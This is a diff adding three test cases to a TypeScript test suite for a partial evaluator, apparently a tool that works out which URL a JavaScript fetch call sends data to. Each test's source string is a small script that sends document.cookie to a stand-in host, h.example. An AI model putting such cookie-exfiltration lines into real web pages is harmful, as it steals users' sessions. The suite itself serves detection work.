@@ -235,6 +235,24 @@ const CASES: { name: string; source: string; has: string[]; not?: string[] }[] =
       var u=['https://h.example/c'];onclick=function(){fetch(u[0]+'?'+document.cookie)};u=['https://h.example/d']`,
     has: ['fetch("https://h.example/b?"+', 'fetch("https://h.example/d?"+'],
   },
+  {
+    name: 'a break out of a labelled block ends the block, not the simulation',
+    source: `var q=['https://h.example/a'];x:{break x}q[0]='https://h.example/b';fetch(q[0]+'?'+document.cookie)`,
+    has: ['fetch("https://h.example/b?"+'],
+    not: ['h.example/a?'],
+  },
+  {
+    name: 'what statements left unrun after the step budget would write is unknown',
+    source: `var q=['https://h.example/a'];for(var i=0;i<5e5;i++){}for(var j=0;j<5e5;j++){}for(var k=0;k<5e5;k++){}q[0]='https://h.example/b';fetch(q[0]+'?'+document.cookie)`,
+    has: [],
+    not: ['h.example/a?'],
+  },
+  {
+    name: 'an implicit global made after a call ran is not seen by that call',
+    source: `function s(){return typeof w=='string'?w:'https://h.example/a'}fetch(s()+'?'+document.cookie);w='https://h.example/b'`,
+    has: [],
+    not: ['h.example/b?'],
+  },
 ]
 
 describe('partial evaluator', () => {
